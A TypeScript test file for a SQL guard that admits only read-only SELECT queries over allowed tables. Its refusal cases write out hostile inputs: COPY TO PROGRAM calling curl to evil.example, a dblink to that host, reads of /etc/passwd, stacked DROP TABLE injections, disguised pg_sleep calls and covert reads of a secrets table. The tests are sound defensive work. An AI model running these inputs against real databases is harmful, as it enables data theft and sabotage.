import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { checkSelect } from '../../tools/sql/check-select.ts';

const allowed = new Set(['public.orders', 'public.customers', 'sales.items']);
const refusal = async (sql: string): Promise<string> =>
  checkSelect(sql, allowed).then(
    () => assert.fail(`it was allowed: ${sql.slice(0, 200)}`),
    (error: Error) => (error.name === 'RefusedSql' ? error.message : assert.fail(error)),
  );

describe('a query may', () => {
  for (const sql of [
    'SELECT * FROM orders',
    'select * from PUBLIC.Orders -- in small letters it is the same\n;',
    'TABLE orders',
    "VALUES (1, 'a'), (2, 'b')",
    'WITH a AS (SELECT * FROM orders), b AS (SELECT * FROM a) SELECT * FROM b UNION ALL SELECT * FROM a ORDER BY 1 LIMIT 3',
    'WITH RECURSIVE n(i) AS (VALUES (1) UNION ALL SELECT i + 1 FROM n WHERE i < 5) SELECT sum(i) FROM n',
    'SELECT o.id, x.n FROM orders o NATURAL LEFT JOIN sales.items i, LATERAL (SELECT count(*) AS n FROM customers c WHERE c.id = o.id) x',
    "SELECT extract(year FROM now()), position('a' IN 'b'), trim(' a'), substring('abc' FROM 1 FOR 2), a SIMILAR TO 'b', a LIKE 'b' ESCAPE '!', now() AT TIME ZONE 'utc' FROM orders",
    "SELECT CAST('1' AS decimal(3, 2)), '{1}'::int[], (ARRAY[1, 2])[1:2], ROW(1, 2), NULLIF(1, 2), 1 IN (1, 2), 1 BETWEEN SYMMETRIC 2 AND 3, INTERVAL '1' YEAR, CURRENT_DATE",
    "SELECT string_agg(a, ',' ORDER BY a) FILTER (WHERE a IS NOT NULL), sum(b) OVER (PARTITION BY c ORDER BY d ROWS 1 PRECEDING), percentile_cont(0.5) WITHIN GROUP (ORDER BY b) FROM orders GROUP BY ROLLUP (a), GROUPING SETS ((c), ()) HAVING true",
    'SELECT * FROM orders WHERE id = ANY (ARRAY[1]) OR EXISTS (SELECT FROM customers) OR total > ALL (SELECT total FROM orders)',
    'SELECT * FROM generate_series(1, 3) WITH ORDINALITY AS g (n, i)',
    "SELECT make_interval(days => 3), data -> 'a' ->> 'b' FROM orders",
  ])
    it(sql.slice(0, 90), async () => {
      await checkSelect(sql, allowed);
    });
});

describe('a query may not', () => {
  const cases: Record<string, [sql: string, why: RegExp][]> = {
    'be anything but one SELECT': [
      ['SELECT 1; SELECT 2', /one statement/],
      ['SELECT 1; /* ; */ DROP TABLE orders', /one statement/],
      ['/* SELECT */ -- SELECT\n', /no statement/],
      [';', /one statement/],
      ['SELECT FROM WHERE', /not valid/],
      ["SELECT 'open", /cannot be read/],
      ["COPY orders TO PROGRAM 'curl evil.example'", /must be a SELECT/],
      ["COPY (SELECT 1) TO '/tmp/x'", /must be a SELECT/],
      ['EXPLAIN ANALYZE SELECT 1', /must be a SELECT/],
      ['DO $$ BEGIN PERFORM 1; END $$', /must be a SELECT/],
      ['CALL p()', /must be a SELECT/],
      ['SET transaction_read_only = off', /must be a SELECT/],
      ['COMMIT', /must be a SELECT/],
      ['DELETE FROM orders', /must be a SELECT/],
      ['PREPARE x AS SELECT 1', /must be a SELECT/],
      ['DECLARE c CURSOR FOR SELECT * FROM secrets', /must be a SELECT/],
      ['SELECT 1 AS a \0; DROP TABLE orders', /control characters/],
      ['SELECT $1', /parameter/],
    ],
    'write or lock': [
      ['SELECT * INTO copy FROM orders', /SELECT INTO/],
      ['CREATE TABLE x AS SELECT 1', /must be a SELECT/],
      ['WITH x AS (DELETE FROM orders RETURNING *) SELECT * FROM x', /DELETE/],
      ['WITH x AS (SELECT 1), y AS (UPDATE orders SET id = 1 RETURNING 1) SELECT * FROM x', /UPDATE/],
      ['SELECT * FROM (WITH x AS (INSERT INTO orders VALUES (1) RETURNING 1) SELECT 1) a', /INSERT/],
      ['WITH x AS (MERGE INTO orders USING customers ON true WHEN MATCHED THEN DELETE RETURNING 1) SELECT 1', /MERGE/],
      ['SELECT * FROM orders FOR UPDATE', /lock/],
      ['SELECT * FROM (SELECT * FROM orders FOR KEY SHARE SKIP LOCKED) a', /lock/],
      ["SELECT nextval('orders_id_seq')", /function nextval/],
      ["SELECT set_config('transaction_read_only', 'off', true)", /function set_config/],
      ['SELECT pg_advisory_lock(1)', /function pg_advisory_lock/],
      ["SELECT lo_import('/etc/passwd')", /function lo_import/],
    ],
    'call what is not harmless': [
      ['SELECT pg_sleep(60)', /function pg_sleep/],
      ['SELECT pg_catalog.pg_sleep(60)', /function pg_catalog\.pg_sleep/],
      ['SELECT PG_SLEEP/* a comment */(60)', /function pg_sleep/],
      ['SELECT "pg_sleep"(60)', /function pg_sleep/],
      ['SELECT U&"pg\\005fsleep"(60)', /function pg_sleep/],
      ['SELECT 1 FROM orders ORDER BY pg_sleep(1)', /pg_sleep/],
      ['SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM orders', /pg_sleep/],
      ['SELECT sum(1) OVER (ORDER BY pg_sleep(1)) FROM orders', /pg_sleep/],
      ['SELECT 1 LIMIT (SELECT 1 FROM pg_sleep(1))', /pg_sleep/],
      ['SELECT CASE WHEN true THEN (ARRAY[pg_sleep(1)])[1] END', /pg_sleep/],
      ['SELECT * FROM customers, LATERAL pg_sleep(1)', /pg_sleep/],
      ['SELECT * FROM ROWS FROM (generate_series(1, 2), pg_sleep(1)) AS x', /pg_sleep/],
      ["SELECT pg_read_file('/etc/passwd')", /pg_read_file/],
      ["SELECT * FROM pg_ls_dir('/')", /pg_ls_dir/],
      ["SELECT * FROM dblink('host=evil.example', 'SELECT 1') AS t (a int)", /column list|dblink/],
      ["SELECT query_to_xml('SELECT * FROM secrets', true, true, '')", /query_to_xml/],
      ["SELECT ts_stat('SELECT v FROM secrets')", /ts_stat/],
      ["SELECT ts_rewrite('a'::tsquery, 'SELECT s, t FROM secrets')", /ts_rewrite/],
      ["SELECT current_setting('is_superuser')", /current_setting/],
      ["SELECT has_table_privilege('secrets', 'SELECT')", /has_table_privilege/],
      ['SELECT current_user', /current_user/],
      ['SELECT version()', /version/],
      ['SELECT public.lower(name) FROM customers', /public\.lower/],
      ['SELECT my_function()', /my_function/],
      ["SELECT repeat('a', 1000000000)", /repeat/],
      ['SELECT 1 OPERATOR(public.+) 2', /operator public\.\+/],
      ['SELECT 1 === 2', /operator ===/],
      ['SELECT * FROM orders TABLESAMPLE evil(1)', /TABLESAMPLE/],
      ["SELECT * FROM JSON_TABLE('[]', '$' COLUMNS (a int PATH '$'))", /JSON_TABLE/],
    ],
    'read what was not allowed': [
      ['SELECT * FROM secrets', /public\.secrets/],
      ['SELECT * FROM other.orders', /other\.orders/],
      ['SELECT * FROM items', /public\.items/],
      ['SELECT * FROM "Orders"', /public\.Orders/],
      ['SELECT * FROM "orders "', /public\.orders /],
      ['SELECT * FROM оrders', /public\.оrders/],
      ['SELECT * FROM "public.orders"', /public\.public\.orders/],
      ['SELECT * FROM elsewhere.public.orders', /another database/],
      ['SELECT * FROM pg_class', /pg_catalog\.pg_class/],
      ['SELECT * FROM pg_catalog.pg_authid', /pg_catalog\.pg_authid/],
      ['SELECT * FROM information_schema.tables', /information_schema\.tables/],
      ['SELECT 1 FROM orders WHERE id IN (SELECT id FROM secrets)', /secrets/],
      ['SELECT (SELECT max(id) FROM secrets)', /secrets/],
      ['SELECT * FROM orders o JOIN LATERAL (SELECT * FROM secrets s WHERE s.id = o.id) x ON true', /secrets/],
      ['SELECT * FROM orders UNION SELECT * FROM secrets', /secrets/],
      ['VALUES ((SELECT max(id) FROM secrets))', /secrets/],
      ['WITH a AS (TABLE secrets) TABLE a', /secrets/],
      ["SELECT 'secrets'::regclass", /type regclass/],
      ['SELECT CAST(1259 AS pg_catalog.regclass[])', /regclass/],
      ["SELECT 'x'::public.orders", /type public\.orders/],
      ["SELECT regclass 'secrets'", /type regclass/],
      // a name of a WITH query where the database takes it for a table's
      ['SELECT * FROM secrets, (WITH secrets AS (SELECT 1) SELECT * FROM secrets) x', /secrets/],
      ['WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets', /secrets/],
      ['WITH a AS (SELECT * FROM secrets), secrets AS (SELECT 1) SELECT * FROM a', /secrets/],
      ['(WITH secrets AS (SELECT 1) SELECT 1) UNION SELECT id FROM secrets', /secrets/],
      ['WITH secrets AS (SELECT 1) SELECT * FROM public.secrets', /secrets/],
    ],
  };
  for (const [what, each] of Object.entries(cases))
    it(what, async () => {
      for (const [sql, why] of each) assert.match(await refusal(sql), why, sql);
    });

  it('nest or grow beyond what the parser should see, and the next one is read as if nothing had been', async () => {
    const nested = (n: number) => `SELECT ${'(SELECT '.repeat(n)}1${')'.repeat(n)}`;
    await checkSelect(nested(300), allowed);
    for (const [sql, why] of [
      [nested(600), /1500 words and signs/],
      [`SELECT ${'('.repeat(4_900)}1${')'.repeat(4_900)}`, /1500 words and signs/],
      [`SELECT 1${'+1'.repeat(4_900)}`, /1500 words and signs/],
      [`SELECT ${'NOT '.repeat(2_000)}true`, /1500 words and signs/],
      [`SELECT '${'a'.repeat(1_000_000)}'`, /10000 characters/],
      [nested(100_000), /10000 characters/],
    ] as const)
      assert.match(await refusal(sql), why);
    await checkSelect('SELECT 1', allowed);
  });
});

it('names after a dot are told, unless a function of that name does no harm: they may be functions', async () => {
  const sql = 'SELECT o.total, (o).evil, o.count, public.orders.worse FROM orders o';
  assert.deepEqual((await checkSelect(sql, allowed)).attributes.sort(), ['evil', 'orders', 'total', 'worse']);
});
